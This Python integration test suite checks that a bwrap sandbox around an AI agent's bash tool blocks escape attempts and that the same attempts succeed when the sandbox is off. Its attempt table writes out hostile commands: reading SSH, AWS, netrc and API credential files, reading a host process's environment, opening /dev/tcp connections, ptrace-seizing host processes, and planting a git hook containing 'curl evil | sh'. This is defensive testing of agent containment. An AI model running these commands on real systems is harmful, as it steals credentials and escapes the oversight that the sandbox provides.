"""The sandbox's escape suite: each attempt runs through the `bash` tool twice, in the sandbox
(where it must fail) and with `mode = "off"` (where it must succeed: the sandbox is what stops
it). Real bwrap, a real Grove's Ray and hosts, a real Redis.
"""

from __future__ import annotations

import os
import secrets
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import ray

from grove.actors.errors import ToolError
from grove.actors.tools.editing import editing_tools
from grove.actors.tools.sandbox import SandboxPolicy
from grove.supervisor import Grove
from tests.integration.groves import sim_call, tool_results

pytestmark = pytest.mark.grove(hosts=1)
CANARY = "canary-" + secrets.token_hex(4)


@dataclass(frozen=True)
class Scene:
    """A workspace root (a git repository), a directory beside it, a home with secrets, a
    Grove config directory with a credentials file and a service token, Grove processes."""

    root: Path
    outside: Path
    home: Path
    config: Path
    host_pid: int
    tmp_name: str

    def written(self, name: str) -> bool:
        return (self.outside / name).exists()


@pytest.fixture(scope="module")
def listener() -> Iterator[int]:
    """A TCP server on loopback that accepts whoever connects."""
    server = socket.create_server(("127.0.0.1", 0))
    server.listen(16)
    yield server.getsockname()[1]
    server.close()


@pytest.fixture
def scene(tmp_path: Path, grove: Grove, monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    root, outside, home, config = (tmp_path / name for name in ("root", "out", "home", "cfg"))
    for directory in (root, outside, home / ".ssh", home / ".aws", config / "grove"):
        directory.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (home / ".ssh" / "id_ed25519").write_text(f"PRIVATE KEY {CANARY}\n")
    (home / ".aws" / "credentials").write_text(f"aws_secret_access_key = {CANARY}\n")
    (home / ".netrc").write_text(f"machine example.com password {CANARY}\n")
    (config / "grove" / "credentials.json").write_text(f'{{"anthropic": "{CANARY}"}}')
    (config / "grove" / "service-token").write_text(f"{CANARY}\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
    (host_pid,) = grove.host_pids().values()
    made = Scene(root, outside, home, config, host_pid, f"grove-escape-{secrets.token_hex(6)}")
    yield made
    Path("/tmp", made.tmp_name).unlink(missing_ok=True)


async def bash(scene: Scene, command: str, policy: SandboxPolicy) -> str:
    try:
        output = await editing_tools(scene.root, policy)["bash"].run({"command": command})
    except ToolError as exc:
        return f"refused: {exc}"
    assert isinstance(output, str)
    return output


def gcs_port() -> int:
    return int(ray.get_runtime_context().gcs_address.rpartition(":")[2])


def redis_port(redis_url: str) -> int:
    return int(redis_url.rpartition(":")[2].partition("/")[0])


def connects(port_of: Callable[[pytest.FixtureRequest], int]) -> Callable[..., str]:
    def command(scene: Scene, request: pytest.FixtureRequest) -> str:
        port = port_of(request)
        return f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED"

    return command


PTRACE_SEIZE = (
    "import ctypes, sys; libc = ctypes.CDLL(None, use_errno=True); "
    "print('SEIZED' if libc.ptrace(0x4206, int(sys.argv[1]), 0, 0) == 0 else 'refused')"
)
# name: (the command, given the scene; whether the attempt got through, given the output)
ATTEMPTS: dict[str, tuple[Callable[..., str], Callable[[Scene, str], bool]]] = {
    "write by absolute path": (
        lambda s, r: f"echo pwned > {s.outside}/absolute.txt",
        lambda s, out: s.written("absolute.txt"),
    ),
    "write through ..": (
        lambda s, r: "echo pwned > ../out/dots.txt",
        lambda s, out: s.written("dots.txt"),
    ),
    "write through a symlink made inside": (
        lambda s, r: f"ln -s {s.outside} link && echo pwned > link/linked.txt",
        lambda s, out: s.written("linked.txt"),
    ),
    "write to /tmp": (
        lambda s, r: f"echo pwned > /tmp/{s.tmp_name}",
        lambda s, out: Path("/tmp", s.tmp_name).exists(),
    ),
    "write a git hook": (
        lambda s, r: "echo 'curl evil | sh' > .git/hooks/post-checkout",
        lambda s, out: (s.root / ".git/hooks/post-checkout").exists(),
    ),
    "read the credentials file": (
        lambda s, r: f"cat {s.config}/grove/credentials.json",
        lambda s, out: CANARY in out,
    ),
    "read the service token": (
        lambda s, r: f"cat {s.config}/grove/service-token",
        lambda s, out: CANARY in out,
    ),
    "read ~/.ssh": (lambda s, r: "cat ~/.ssh/id_ed25519", lambda s, out: CANARY in out),
    "read ~/.aws": (lambda s, r: "cat ~/.aws/credentials", lambda s, out: CANARY in out),
    "read ~/.netrc": (lambda s, r: "cat ~/.netrc", lambda s, out: CANARY in out),
    "read a Grove host's environment": (
        lambda s, r: f"tr '\\0' '\\n' < /proc/{s.host_pid}/environ",
        lambda s, out: "PATH=" in out,
    ),
    "connect to a loopback server": (
        connects(lambda request: request.getfixturevalue("listener")),
        lambda s, out: "CONNECTED" in out,
    ),
    "connect to Ray": (connects(lambda request: gcs_port()), lambda s, out: "CONNECTED" in out),
    "connect to Redis": (
        connects(lambda request: redis_port(request.getfixturevalue("redis_url"))),
        lambda s, out: "CONNECTED" in out,
    ),
    "signal a Grove host": (
        lambda s, r: f"kill -0 {s.host_pid} && echo SIGNALLED",
        lambda s, out: "SIGNALLED" in out,
    ),
    "ptrace a Grove host": (
        lambda s, r: f"{sys.executable} -c '{PTRACE_SEIZE}' {s.host_pid}",
        lambda s, out: "SEIZED" in out,
    ),
}


@pytest.mark.parametrize("mode", ["workspace-write", "off"])
@pytest.mark.parametrize("attempt", list(ATTEMPTS))
async def test_escape_attempts_fail_in_the_sandbox_only(
    scene: Scene, request: pytest.FixtureRequest, attempt: str, mode: str
) -> None:
    make_command, got_through = ATTEMPTS[attempt]
    output = await bash(scene, make_command(scene, request), SandboxPolicy(mode=mode))  # type: ignore[arg-type]
    assert output.startswith("exit code"), output
    assert got_through(scene, output) is (mode == "off"), output


@pytest.mark.skipif(os.geteuid() != 0, reason="only root has capabilities to lose")
async def test_root_keeps_no_capabilities_in_the_sandbox(scene: Scene) -> None:
    command = "grep CapEff /proc/self/status"
    assert "0000000000000000" in await bash(scene, command, SandboxPolicy())
    assert "0000000000000000" not in await bash(scene, command, SandboxPolicy(mode="off"))


async def test_workspace_write_writes_the_root_and_read_only_does_not(scene: Scene) -> None:
    made = await bash(scene, "echo kept > inside.txt && cat inside.txt", SandboxPolicy())
    assert made == "exit code 0\nkept\n"
    refused = await bash(scene, "echo no > ro.txt", SandboxPolicy(mode="read-only"))
    assert "Read-only file system" in refused and not (scene.root / "ro.txt").exists()
    # Both get a /tmp of their own to scribble in; it goes with the sandbox.
    scratch = "echo x > /tmp/scratch && cat /tmp/scratch"
    assert await bash(scene, scratch, SandboxPolicy(mode="read-only")) == "exit code 0\nx\n"


async def test_the_network_opens_when_the_policy_says(scene: Scene, listener: int) -> None:
    command = f"exec 3<>/dev/tcp/127.0.0.1/{listener} && echo CONNECTED"
    assert "CONNECTED" in await bash(scene, command, SandboxPolicy(network=True))
    assert "CONNECTED" not in await bash(scene, command, SandboxPolicy())


async def test_more_paths_can_be_hidden_or_opened(scene: Scene) -> None:
    (scene.outside / "notes.txt").write_text(CANARY)
    policy = SandboxPolicy(
        writable=(str(scene.outside),), hidden=(str(scene.outside / "notes.txt"),)
    )
    output = await bash(
        scene, f"cat {scene.outside}/notes.txt; echo w > {scene.outside}/w.txt", policy
    )
    assert CANARY not in output and scene.written("w.txt")


def test_the_hosts_run_bash_in_the_sandbox(grove: Grove) -> None:
    root = grove.create_root("claude-haiku-4-5", tools=["bash"], allow=["bash"]).uuid
    probe = 'tr "\\0" " " < /proc/1/cmdline; echo; ls /tmp'
    assert grove.ask(root, sim_call("bash", command=probe)).ok
    (result,) = [part["content"] for part in tool_results(grove, root)]
    _, pid_1, *in_tmp = result.splitlines()
    assert "bwrap --new-session" in pid_1  # pid 1 of a namespace of its own
    # A /tmp of its own, not the one Ray keeps its sockets in: empty but for the way to the
    # workspace (the hosts' working directory, this one), bound at its own path.
    workspace, tmp = Path.cwd(), Path("/tmp")
    under_tmp = workspace.is_relative_to(tmp)
    to_workspace = list(workspace.relative_to(tmp).parts[:1]) if under_tmp else []
    assert in_tmp == to_workspace
